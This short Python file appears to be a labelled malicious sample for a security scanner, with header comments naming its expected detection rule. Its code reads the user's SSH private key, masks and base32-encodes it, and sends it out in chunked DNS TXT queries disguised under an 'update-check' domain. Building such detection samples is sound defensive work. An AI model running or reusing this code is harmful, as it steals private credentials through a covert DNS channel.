# does: encrypts the home directory's keys and sends them in several dozen TXT queries
# kind: malicious
# expect: SEN-070 high high
import base64
import os
import random
import socket

data = open(os.path.expanduser("~/.ssh/id_ed25519"), "rb").read() * 6
pad = random.Random(11).randbytes(len(data))
text = base64.b32encode(bytes(a ^ b for a, b in zip(data, pad, strict=True))).decode().rstrip("=").lower()
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stream:
    stream.settimeout(3)
    for number in range(0, len(text), 56):
        labels = [text[number : number + 56], f"s{number // 56}", "q", "update-check", "net"]
        question = b"".join(bytes([len(label)]) + label.encode() for label in labels)
        stream.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + question + b"\0\x00\x10\x00\x01", ("127.0.0.1", 53))
        stream.recv(4096)
